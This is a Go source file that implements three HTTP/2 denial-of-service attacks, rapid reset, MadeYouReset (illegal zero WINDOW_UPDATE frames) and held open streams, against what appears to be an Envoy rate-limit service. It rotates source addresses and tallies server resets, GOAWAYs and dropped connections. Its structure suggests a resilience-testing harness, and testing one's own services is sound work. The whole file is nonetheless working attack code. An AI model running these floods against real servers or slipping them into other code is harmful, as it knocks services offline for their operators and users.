package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"errors"
	"net"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rlsMethod is the path of the RLS call the HTTP/2 attacks open streams for.
const rlsMethod = "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"

// h2Conn is a raw HTTP/2 client connection: it writes frames itself and
// reads (and counts) what the server sends back.
type h2Conn struct {
	c  net.Conn
	bw *bufio.Writer
	fr *http2.Framer
	// block is the HPACK header block of one RLS call: with a dynamic table
	// of size 0 every block after the first is the same bytes.
	block []byte

	goaway     atomic.Bool
	answered   atomic.Bool  // the server sent at least one frame
	ended      atomic.Int64 // streams the server ended (trailers or RST_STREAM)
	closed     chan struct{}
	closedOnce sync.Once
}

// h2Target is what the HTTP/2 attacks connect to and ask for.
type h2Target struct {
	addr string
	// tls connects with TLS (h2 by ALPN, the certificate not checked), for
	// the HTTPS listener.
	tls bool
	// path and contentType are the request's (an RLS call, if empty).
	path, contentType string
}

// dialH2 connects from addr and sends the client preface and SETTINGS.
func dialH2(target h2Target, from string) (*h2Conn, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 5 * time.Second}
	c, err := d.Dial("tcp", target.addr)
	if err != nil {
		return nil, err
	}
	scheme := "http"
	if target.tls {
		tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{http2.NextProtoTLS}})
		tc.SetDeadline(time.Now().Add(5 * time.Second))
		if err := tc.Handshake(); err != nil {
			c.Close()
			return nil, err
		}
		tc.SetDeadline(time.Time{})
		if tc.ConnectionState().NegotiatedProtocol != http2.NextProtoTLS {
			c.Close()
			return nil, errors.New("the server did not choose HTTP/2")
		}
		c, scheme = tc, "https"
	}
	path, fields := target.path, [][2]string{{"content-type", "application/grpc"}, {"te", "trailers"}}
	if path == "" {
		path = rlsMethod
	}
	if target.contentType != "" {
		fields = [][2]string{{"content-type", target.contentType}}
	}
	h := &h2Conn{c: c, bw: bufio.NewWriterSize(c, 64<<10), closed: make(chan struct{})}
	h.fr = http2.NewFramer(h.bw, c)
	h.fr.ReadMetaHeaders = nil
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	enc.SetMaxDynamicTableSizeLimit(0)
	for i := 0; i < 2; i++ { // the first block carries the table size update
		buf.Reset()
		for _, f := range append([][2]string{{":method", "POST"}, {":scheme", scheme}, {":path", path},
			{":authority", target.addr}}, fields...) {
			enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		if i == 0 {
			if _, err := h.bw.WriteString(http2.ClientPreface); err != nil {
				c.Close()
				return nil, err
			}
			h.fr.WriteSettings()
			h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: buf.Bytes(), EndHeaders: true})
			h.fr.WriteRSTStream(1, http2.ErrCodeCancel)
		}
	}
	h.block = append([]byte(nil), buf.Bytes()...)
	if err := h.bw.Flush(); err != nil {
		c.Close()
		return nil, err
	}
	go h.read()
	return h, nil
}

// read counts the server's frames until the connection ends.
func (h *h2Conn) read() {
	defer h.close()
	br := http2.NewFramer(nil, bufio.NewReaderSize(h.c, 64<<10))
	for {
		f, err := br.ReadFrame()
		if err != nil {
			return
		}
		h.answered.Store(true)
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			h.goaway.Store(true)
		case *http2.RSTStreamFrame:
			h.ended.Add(1)
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				h.ended.Add(1)
			}
		}
	}
}

func (h *h2Conn) close() {
	h.closedOnce.Do(func() { h.c.Close(); close(h.closed) })
}

// open sends HEADERS for a new stream without END_STREAM: the request
// message is still to come.
func (h *h2Conn) open(id uint32) error {
	return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block, EndHeaders: true})
}

// end ends stream id the way the attack does: RST_STREAM (rapid reset),
// or a WINDOW_UPDATE of increment 0, a protocol error for which the server
// resets the stream itself (MadeYouReset).
func (h *h2Conn) end(id uint32, madeYouReset bool) error {
	if !madeYouReset {
		return h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
	}
	h.fr.AllowIllegalWrites = true
	err := h.fr.WriteWindowUpdate(id, 0)
	h.fr.AllowIllegalWrites = false
	return err
}

// rapidResetResult describes a rapid-reset or MadeYouReset run.
type rapidResetResult struct {
	Target      string  `json:"target"`
	Attack      string  `json:"attack"`
	Seconds     float64 `json:"seconds"`
	Connections int     `json:"connections_opened"`
	DialErrors  int     `json:"dial_errors"`
	// Resets counts the streams opened and reset on connections the server
	// answered (sent its SETTINGS on) that the kernel took (written and
	// flushed); the server read at most that many. Unanswered counts those
	// written to connections the server closed without a word.
	Resets     int64 `json:"streams_opened_and_reset"`
	Unanswered int64 `json:"streams_written_to_refused_connections"`
	GoAways    int   `json:"connections_sent_goaway"`
	// CutOff counts connections the server closed after answering (its
	// SETTINGS), Refused those it closed without a word.
	CutOff  int `json:"connections_cut_off"`
	Refused int `json:"connections_refused"`
	// StreamsPerConnP50 is the median number of streams a connection the
	// server cut off got to open and reset before it was closed.
	StreamsPerConnP50 int64 `json:"streams_per_cut_connection_p50"`
}

// rapidReset runs conns loops for d, each on its own connection: open a
// stream with HEADERS and cancel it with RST_STREAM at once (or, with
// madeYouReset, make the server reset it), as fast as the connection takes
// them. When the server closes the connection, the loop reconnects, from
// the next address of from.
func rapidReset(target h2Target, from []string, conns int, d time.Duration, madeYouReset bool) rapidResetResult {
	res := rapidResetResult{Target: target.addr, Attack: "rapid-reset"}
	if madeYouReset {
		res.Attack = "made-you-reset"
	}
	var mu sync.Mutex
	var perConn []int64
	var wg sync.WaitGroup
	begin := time.Now()
	end := begin.Add(d)
	for i := 0; i < conns; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for n := 0; time.Now().Before(end); n++ {
				h, err := dialH2(target, from[(i+n)%len(from)])
				mu.Lock()
				if err != nil {
					res.DialErrors++
					mu.Unlock()
					time.Sleep(10 * time.Millisecond)
					continue
				}
				res.Connections++
				mu.Unlock()
				var sent int64 = 1 // flushed by dialH2
				id := uint32(3)
				for pending := int64(0); time.Now().Before(end); id += 2 {
					if h.open(id) != nil || h.end(id, madeYouReset) != nil {
						break
					}
					if pending++; pending == 64 {
						if h.bw.Flush() != nil {
							break
						}
						sent, pending = sent+pending, 0
					}
					select {
					case <-h.closed:
					default:
						continue
					}
					break
				}
				cut := false
				select {
				case <-h.closed:
					cut = true
				case <-time.After(100 * time.Millisecond):
				}
				h.close()
				mu.Lock()
				if h.answered.Load() {
					res.Resets += sent
				} else {
					res.Unanswered += sent
				}
				switch {
				case cut && h.answered.Load():
					res.CutOff++
					perConn = append(perConn, sent)
				case cut:
					res.Refused++
				}
				if h.goaway.Load() {
					res.GoAways++
				}
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	res.Seconds = time.Since(begin).Seconds()
	if len(perConn) > 0 {
		sort.Slice(perConn, func(i, j int) bool { return perConn[i] < perConn[j] })
		res.StreamsPerConnP50 = perConn[len(perConn)/2]
	}
	return res
}

// heldStreamsResult describes a held-streams run.
type heldStreamsResult struct {
	Target      string `json:"target"`
	Connections int    `json:"connections_opened"`
	DialErrors  int    `json:"dial_errors"`
	Streams     int64  `json:"streams_opened"`
	// EndedByServer counts streams the server ended (refused, rejected or
	// timed out) while the attack held them; Held is the rest.
	EndedByServer int64   `json:"streams_ended_by_server"`
	Held          int64   `json:"streams_still_held_at_end"`
	HeldSeconds   float64 `json:"held_s"`
	GoAways       int     `json:"connections_sent_goaway"`
	CutOff        int     `json:"connections_closed_by_server"`
}

// heldStreams opens conns connections and on each perConn streams whose
// request message never comes (HEADERS without END_STREAM, then nothing),
// and holds them for d.
func heldStreams(target string, from []string, conns, perConn int, d time.Duration) heldStreamsResult {
	res := heldStreamsResult{Target: target}
	to := h2Target{addr: target}
	var hs []*h2Conn
	opened := map[*h2Conn]int64{}
	for i := 0; i < conns; i++ {
		h, err := dialH2(to, from[i%len(from)])
		if err != nil {
			res.DialErrors++
			continue
		}
		res.Connections++
		hs = append(hs, h)
		for j := 0; j < perConn; j++ {
			if h.open(uint32(3+2*j)) != nil {
				break
			}
			opened[h]++
		}
		res.Streams += opened[h]
		h.bw.Flush()
	}
	begin := time.Now()
	time.Sleep(d)
	res.HeldSeconds = time.Since(begin).Seconds()
	for _, h := range hs {
		ended := min(h.ended.Load(), opened[h])
		select {
		case <-h.closed:
			res.CutOff++
		default:
			res.Held += opened[h] - ended
		}
		if h.goaway.Load() {
			res.GoAways++
		}
		res.EndedByServer += ended
		h.close()
	}
	return res
}
